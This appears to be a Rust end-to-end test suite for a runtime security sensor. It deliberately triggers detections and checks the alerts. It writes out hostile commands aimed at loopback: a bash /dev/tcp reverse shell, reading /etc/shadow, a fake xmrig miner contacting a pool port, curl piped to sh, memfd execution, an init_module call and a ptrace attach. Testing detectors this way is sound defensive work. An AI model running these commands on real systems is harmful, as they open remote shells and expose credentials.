//! `palisade sensor run` end to end, as root on the real kernel: real processes on the host and in
//! real containers (runc, busybox on overlayfs) do what each built-in detection is about, and the
//! alerts the sensor writes are checked — alert type, process, container attribution — together
//! with drift detection and drift blocking (the drifting process killed at exec). A second run
//! with benign work (a compile, a package install on the host) must raise nothing.
//!
//! Needs root, runc, a static busybox, python3, bash and curl (scripts/test.sh installs them);
//! without them the test fails and says what is missing.

#[path = "../../palisade-sensor/tests/support/runc.rs"]
mod runc;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use runc::Container;
use serde_json::Value;

const SECOND: Duration = Duration::from_secs(1);

/// One sensor at a time: the benign run must not see the attack run's processes.
static SERIAL: std::sync::Mutex<()> = std::sync::Mutex::new(());

struct RunningSensor {
    child: Child,
    output: PathBuf,
    dir: PathBuf,
    stderr: mpsc::Receiver<String>,
}

fn scratch(name: &str) -> PathBuf {
    let dir =
        std::env::temp_dir().join(format!("palisade-sensor-e2e-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("create scratch dir");
    dir
}

/// Starts `palisade sensor run` with `config` as palisade.yaml and waits until it is attached.
fn start_sensor(name: &str, config: &str, extra: &[&str]) -> RunningSensor {
    runc::require_container_support();
    let dir = scratch(name);
    let config_path = dir.join("palisade.yaml");
    std::fs::write(&config_path, config).expect("write palisade.yaml");
    let output = dir.join("alerts.jsonl");
    let mut child = Command::new(env!("CARGO_BIN_EXE_palisade"))
        .args(["sensor", "run", "--config"])
        .arg(&config_path)
        .arg("--output")
        .arg(&output)
        .arg("--state-dir")
        .arg(dir.join("state"))
        .args(extra)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start palisade sensor run");
    let stderr = child.stderr.take().expect("sensor stderr");
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(stderr).lines().map_while(Result::ok) {
            eprintln!("[sensor] {line}");
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    let deadline = Instant::now() + 60 * SECOND;
    loop {
        match rx.recv_timeout(deadline.saturating_duration_since(Instant::now())) {
            Ok(line) if line.contains("palisade sensor running") => break,
            Ok(_) => continue,
            Err(_) => {
                let _ = child.kill();
                let status = child.wait().ok();
                panic!(
                    "the sensor did not start within 60 s (exit: {status:?}); see [sensor] lines above"
                );
            }
        }
    }
    RunningSensor {
        child,
        output,
        dir,
        stderr: rx,
    }
}

/// A test that fails before `stop` must not leave a sensor attached to the kernel.
impl Drop for RunningSensor {
    fn drop(&mut self) {
        if matches!(self.child.try_wait(), Ok(None)) {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

impl RunningSensor {
    /// Stops the sensor (SIGTERM: it flushes held alerts) and returns every alert it wrote.
    fn stop(mut self) -> Vec<Value> {
        // Let the last events travel through the ring buffer before stopping.
        std::thread::sleep(SECOND);
        // SAFETY: kill with a valid pid and signal.
        unsafe {
            libc::kill(self.child.id() as i32, libc::SIGTERM);
        }
        let status = self.child.wait().expect("wait for the sensor");
        let mut summary = String::new();
        while let Ok(line) = self.stderr.recv_timeout(SECOND) {
            if line.contains("stopped") {
                summary = line;
            }
        }
        assert!(status.success(), "the sensor exited with {status}");
        assert!(
            summary.contains(" 0 dropped"),
            "the kernel dropped events in a quiet test: {summary}"
        );
        let text = std::fs::read_to_string(&self.output).unwrap_or_default();
        let alerts: Vec<Value> = text
            .lines()
            .map(|line| serde_json::from_str(line).expect("alert lines are JSON"))
            .collect();
        let _ = std::fs::remove_dir_all(&self.dir);
        alerts
    }
}

fn describe(alerts: &[Value]) -> String {
    alerts
        .iter()
        .map(|a| format!("  {} | {}", a["alert_type"], a["output"]))
        .collect::<Vec<_>>()
        .join("\n")
}

/// The alerts of `alert_type` whose output mentions `marker`.
fn find<'a>(alerts: &'a [Value], alert_type: &str, marker: &str) -> Vec<&'a Value> {
    alerts
        .iter()
        .filter(|a| {
            a["alert_type"] == alert_type && a["output"].as_str().unwrap_or("").contains(marker)
        })
        .collect()
}

fn expect_one<'a>(alerts: &'a [Value], alert_type: &str, marker: &str) -> &'a Value {
    let found = find(alerts, alert_type, marker);
    assert!(
        !found.is_empty(),
        "no {alert_type} alert mentioning `{marker}`; alerts raised:\n{}",
        describe(alerts)
    );
    found[0]
}

fn sh(script: &str) -> std::process::Output {
    Command::new("bash")
        .args(["-c", script])
        .stdin(Stdio::null())
        .output()
        .expect("run bash")
}

fn python(code: &str) -> std::process::Output {
    Command::new("python3")
        .args(["-c", code])
        .stdin(Stdio::null())
        .output()
        .expect("run python3")
}

/// A one-shot HTTP server on loopback answering every request with `body`.
fn serve_script(body: &'static str) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind HTTP listener");
    let port = listener.local_addr().expect("local addr").port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().map_while(Result::ok) {
            let mut request = [0u8; 2048];
            let _ = stream.read(&mut request);
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

/// A TCP listener that accepts and holds connections (a "pool", a shell catcher).
fn catcher(port: u16) -> u16 {
    let listener = TcpListener::bind(("127.0.0.1", port)).expect("bind catcher listener");
    let port = listener.local_addr().expect("local addr").port();
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for stream in listener.incoming().map_while(Result::ok) {
            held.push(stream);
        }
    });
    port
}

fn http_get(addr: &str, path: &str) -> String {
    let mut stream = std::net::TcpStream::connect(addr).expect("connect to the metrics endpoint");
    write!(
        stream,
        "GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"
    )
    .expect("send request");
    let mut response = String::new();
    stream.read_to_string(&mut response).expect("read response");
    assert!(response.starts_with("HTTP/1.1 200"), "{response}");
    response
}

const PACKAGE_MANAGER: &[u8] = b"#!/bin/sh\necho \"fake package manager: $*\"\n";

#[test]
fn built_in_detections_fire_on_real_processes_and_containers() {
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let metrics_port = TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("find a free port")
        .port();
    let metrics_addr = format!("127.0.0.1:{metrics_port}");
    let sensor = start_sensor(
        "attacks",
        // moduleLoadAttempts: always, because this CI kernel cannot load modules (the default
        // would leave the attempt below unwatched, see docs/sensor.md).
        "sensor:\n  nodeName: e2e-node\n  clusterName: e2e\n  aggregationWindowSeconds: 0\n  moduleLoadAttempts: always\n  drift:\n    rules:\n      - name: block-drift\n        containers: [\"drift-block-*\"]\n        action: block\n      - name: watch-drift\n        containers: [\"drift-alert-*\"]\n        action: alert\n",
        &["--metrics", &metrics_addr],
    );
    let work = scratch("attack-work");

    // Host: a reverse shell (bash's /dev/tcp: connect, then the socket onto stdin/stdout).
    let shell_port = catcher(0);
    sh(&format!(
        "timeout 2 bash -c 'exec 0<>/dev/tcp/127.0.0.1/{shell_port} 1>&0 2>&0; echo reverse-marker'"
    ));

    // Host: /etc/shadow read by a shell tool. Detached from this test's ancestors first: the
    // rule leaves alone what package managers run, and `cargo test` is one.
    sh("(sleep 0.3; cat /etc/shadow > /dev/null) &");
    std::thread::sleep(SECOND);

    // Host: a binary named like a miner connecting to a pool port.
    let pool_port = catcher(3333);
    let miner = work.join("xmrig");
    std::fs::copy("/bin/bash", &miner).expect("copy bash as xmrig");
    sh(&format!(
        "{} -c 'exec 3<>/dev/tcp/127.0.0.1/{pool_port}; sleep 0.2'",
        miner.display()
    ));

    // Host: curl | sh from a local HTTP server.
    let http_port = serve_script("echo downloaded-and-ran\n");
    let piped = sh(&format!(
        "curl -s http://127.0.0.1:{http_port}/install.sh | sh"
    ));
    assert!(
        String::from_utf8_lossy(&piped.stdout).contains("downloaded-and-ran"),
        "curl|sh did not run: {piped:?}"
    );

    // Host: execution from a memfd.
    let memfd = python(
        "import os\nfd = os.memfd_create('payload')\nos.write(fd, open('/bin/true', 'rb').read())\nos.execv(f'/proc/self/fd/{fd}', ['payload'])",
    );
    assert!(memfd.status.success(), "memfd exec failed: {memfd:?}");

    // Host: a kernel module load attempt (init_module with a bogus image; it fails, it is seen).
    python("import ctypes\nctypes.CDLL(None).syscall(175, b'not a module', 12, b'palisade-e2e')");

    // Host: ptrace attach to a sleeping process.
    let traced = python(
        "import ctypes, subprocess, time\nchild = subprocess.Popen(['sleep', '5'])\ntime.sleep(0.2)\nlibc = ctypes.CDLL(None, use_errno=True)\nprint(libc.ptrace(16, child.pid, 0, 0))\ntime.sleep(0.2)\nchild.kill()",
    );
    assert!(traced.status.success(), "ptrace helper failed: {traced:?}");

    // Containers: an interactive shell, a package manager, and drift (alerted, then blocked).
    let app = Container::new("e2e-app", &[("/usr/bin/apt-get", PACKAGE_MANAGER, 0o755)]);
    let interactive = app.run_on_terminal(&["sh", "-c", "echo terminal-marker"], 20 * SECOND);
    assert!(
        interactive.status.success(),
        "terminal container run failed: {interactive:?}"
    );
    let apt = app.run(&["apt-get", "install", "-y", "nmap"], 20 * SECOND);
    assert!(
        String::from_utf8_lossy(&apt.stdout).contains("fake package manager"),
        "{apt:?}"
    );

    let watched = Container::new("drift-alert-1", &[]);
    let drifted = watched.run(
        &[
            "sh",
            "-c",
            "cp /bin/busybox /tmp/cat && /tmp/cat /etc/passwd >/dev/null && echo drift-ran",
        ],
        20 * SECOND,
    );
    assert!(
        String::from_utf8_lossy(&drifted.stdout).contains("drift-ran"),
        "drift in an alert-only container must run: {drifted:?}"
    );

    let blocking = Container::new("drift-block-1", &[]);
    // The sleep lets the sensor see the container (its first exec) and put the blocking policy
    // into the kernel before the drifting exec.
    let blocked = blocking.run(
        &[
            "sh",
            "-c",
            "cp /bin/busybox /tmp/cat; sleep 1; /tmp/cat /etc/passwd; echo status=$?",
        ],
        20 * SECOND,
    );
    let blocked_out = String::from_utf8_lossy(&blocked.stdout);
    assert!(
        blocked_out.contains("status=137"),
        "the drifting exec in a blocking container must be killed (SIGKILL, status 137): {blocked:?}"
    );
    let image_binary = blocking.run(
        &["sh", "-c", "cat /etc/passwd >/dev/null; echo image-ok"],
        20 * SECOND,
    );
    assert!(
        String::from_utf8_lossy(&image_binary.stdout).contains("image-ok"),
        "binaries from the image must still run in a blocking container: {image_binary:?}"
    );

    // The loop refreshes its metrics every second.
    std::thread::sleep(2 * SECOND);
    let metrics = http_get(&metrics_addr, "/metrics");
    let alerts = sensor.stop();
    let _ = std::fs::remove_dir_all(&work);
    let events: u64 = metrics
        .lines()
        .find_map(|l| l.strip_prefix("palisade_sensor_events_total "))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or(0);
    assert!(events > 100, "events counted in /metrics:\n{metrics}");
    assert!(
        metrics.contains("palisade_sensor_dropped_events_total{cpu=\"0\"} 0"),
        "per-CPU drop counters in /metrics:\n{metrics}"
    );

    let reverse = expect_one(&alerts, "K8S.NODE_ReverseShell", "bash");
    assert_eq!(reverse["entities"]["process"]["name"], "bash", "{reverse}");
    assert!(
        reverse["output"]
            .as_str()
            .unwrap_or("")
            .contains(&shell_port.to_string()),
        "the reverse-shell alert names the remote port: {reverse}"
    );
    let shadow = expect_one(&alerts, "K8S.NODE_SuspectPasswordFileAccess", "/etc/shadow");
    assert_eq!(shadow["entities"]["process"]["name"], "cat", "{shadow}");
    expect_one(&alerts, "K8S.NODE_CryptoCoinMinerExecution", "xmrig");
    let pool = expect_one(&alerts, "K8S.NODE_DigitalCurrencyMining", "xmrig");
    assert!(
        pool["output"].as_str().unwrap_or("").contains("3333"),
        "{pool}"
    );
    expect_one(
        &alerts,
        "K8S.NODE_DownloadAndRunCombo",
        "curl -s http://127.0.0.1",
    );
    expect_one(&alerts, "K8S.NODE_FilelessExecution", "payload");
    expect_one(&alerts, "K8S.NODE_KernelModuleLoad", "python3");
    expect_one(&alerts, "K8S.NODE_PtraceAttach", "python3");

    let terminal = expect_one(
        &alerts,
        "K8S.NODE_TerminalShellInContainer",
        "terminal-marker",
    );
    assert_eq!(
        terminal["entities"]["container"]["id"], "e2e-app",
        "{terminal}"
    );
    assert_eq!(
        terminal["entities"]["container"]["runtime"], "runc",
        "{terminal}"
    );
    assert_eq!(terminal["hostname"], "e2e-node", "{terminal}");
    let package = expect_one(&alerts, "K8S.NODE_PackageManagerInContainer", "apt-get");
    assert_eq!(
        package["entities"]["container"]["id"], "e2e-app",
        "{package}"
    );

    let drift = expect_one(&alerts, "K8S.NODE_BinaryDrift", "/tmp/cat");
    assert_eq!(
        drift["entities"]["container"]["id"], "drift-alert-1",
        "{drift}"
    );
    let drift_blocked = expect_one(&alerts, "K8S.NODE_BinaryDriftBlocked", "/tmp/cat");
    assert_eq!(
        drift_blocked["entities"]["container"]["id"], "drift-block-1",
        "{drift_blocked}"
    );
    assert!(
        find(&alerts, "K8S.NODE_BinaryDrift", "/tmp/cat")
            .iter()
            .all(|a| a["entities"]["container"]["id"] != "drift-block-1"),
        "the blocked exec is reported as blocked, not as plain drift:\n{}",
        describe(&alerts)
    );
    for alert in &alerts {
        assert!(alert["mitre"]["techniques"].is_array(), "{alert}");
        assert_eq!(alert["source"], "syscall", "{alert}");
    }
}

fn build_deb(dir: &Path) -> PathBuf {
    let root = dir.join("pkg");
    std::fs::create_dir_all(root.join("DEBIAN")).expect("create DEBIAN");
    std::fs::create_dir_all(root.join("usr/share/palisade-e2e-benign"))
        .expect("create payload dir");
    std::fs::write(
        root.join("DEBIAN/control"),
        "Package: palisade-e2e-benign\nVersion: 1.0\nArchitecture: all\nMaintainer: Palisade tests <tests@palisade.invalid>\nDescription: benign package for the sensor tests\n",
    )
    .expect("write control");
    std::fs::write(
        root.join("usr/share/palisade-e2e-benign/README"),
        "nothing to see\n",
    )
    .expect("write payload");
    let deb = dir.join("palisade-e2e-benign.deb");
    let built = Command::new("dpkg-deb")
        .args(["--build", "--root-owner-group"])
        .arg(&root)
        .arg(&deb)
        .output()
        .expect("run dpkg-deb");
    assert!(built.status.success(), "dpkg-deb failed: {built:?}");
    deb
}

#[test]
fn benign_work_raises_nothing() {
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let sensor = start_sensor("benign", "sensor:\n  nodeName: e2e-benign\n", &[]);
    let work = scratch("benign-work");
    std::fs::write(
        work.join("hello.c"),
        "#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; }\n",
    )
    .expect("write hello.c");
    let compiled = sh(&format!(
        "cd {} && cc -O2 -o hello hello.c && ./hello",
        work.display()
    ));
    assert!(compiled.status.success(), "compile failed: {compiled:?}");
    let deb = build_deb(&work);
    let installed = Command::new("dpkg")
        .arg("-i")
        .arg(&deb)
        .output()
        .expect("run dpkg -i");
    assert!(installed.status.success(), "dpkg -i failed: {installed:?}");
    let removed = Command::new("dpkg")
        .args(["-r", "palisade-e2e-benign"])
        .output()
        .expect("run dpkg -r");
    assert!(removed.status.success(), "dpkg -r failed: {removed:?}");
    let alerts = sensor.stop();
    let _ = std::fs::remove_dir_all(&work);
    let ours: Vec<&Value> = alerts
        .iter()
        .filter(|a| a["severity"] != "informational" && a["severity"] != "low")
        .collect();
    assert!(
        ours.is_empty(),
        "a compile and a package install on the host raised alerts:\n{}",
        describe(&alerts)
    );
}

/// `palisade sensor check`: usable here, every degradation listed, and the module-load catch-all
/// off only where the kernel cannot load modules (and on with `moduleLoadAttempts: always`).
#[test]
fn check_reports_degradations_and_why_the_module_catch_all_is_off() {
    let dir = scratch("check");
    let check = |config: Option<&str>| -> (Option<i32>, Value) {
        let mut command = Command::new(env!("CARGO_BIN_EXE_palisade"));
        command.args(["sensor", "check", "--format", "json"]);
        if let Some(text) = config {
            let path = dir.join("palisade.yaml");
            std::fs::write(&path, text).expect("write palisade.yaml");
            command.arg("--config").arg(path);
        }
        let output = command.output().expect("run palisade sensor check");
        let report: Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|e| {
            panic!(
                "sensor check JSON ({e}): {}{}",
                String::from_utf8_lossy(&output.stdout),
                String::from_utf8_lossy(&output.stderr)
            )
        });
        (output.status.code(), report)
    };
    let off_entries = |report: &Value| -> Vec<Value> {
        report["degraded"]
            .as_array()
            .expect("degraded is a list")
            .iter()
            .filter(|d| !d["off"].is_null())
            .cloned()
            .collect()
    };

    let (code, default) = check(None);
    assert_eq!(code, Some(0), "{default:#}");
    assert_eq!(default["usable"], true, "{default:#}");
    let off = off_entries(&default);
    let modules_supported = Path::new("/proc/modules").exists();
    for entry in &off {
        assert_eq!(entry["detection"], "kernel module load", "{default:#}");
        assert!(
            entry["off"]
                .as_str()
                .is_some_and(|why| why.contains("moduleLoadAttempts: always")),
            "{entry:#}"
        );
        assert!(
            !modules_supported,
            "the catch-all is off although modules can load"
        );
    }
    let module_tracepoints = ["/sys/kernel/tracing", "/sys/kernel/debug/tracing"]
        .iter()
        .any(|root| {
            Path::new(root)
                .join("events/syscalls/sys_enter_init_module")
                .is_dir()
        });
    if !modules_supported && !module_tracepoints {
        assert_eq!(off.len(), 1, "a kernel without modules: {default:#}");
    }

    let (code, always) = check(Some("sensor:\n  moduleLoadAttempts: always\n"));
    assert_eq!(code, Some(0), "{always:#}");
    assert!(off_entries(&always).is_empty(), "{always:#}");
    assert!(
        !always["report"]
            .as_str()
            .unwrap_or_default()
            .contains("not watched"),
        "{always:#}"
    );

    // A bad value names the key and the file's line, and exits 2.
    let path = dir.join("bad.yaml");
    std::fs::write(&path, "sensor:\n  moduleLoadAttempts: sometimes\n").expect("write");
    let output = Command::new(env!("CARGO_BIN_EXE_palisade"))
        .args(["sensor", "check", "--config"])
        .arg(&path)
        .output()
        .expect("run palisade sensor check");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("sensor.moduleLoadAttempts") && stderr.contains("bad.yaml"),
        "{stderr}"
    );
}
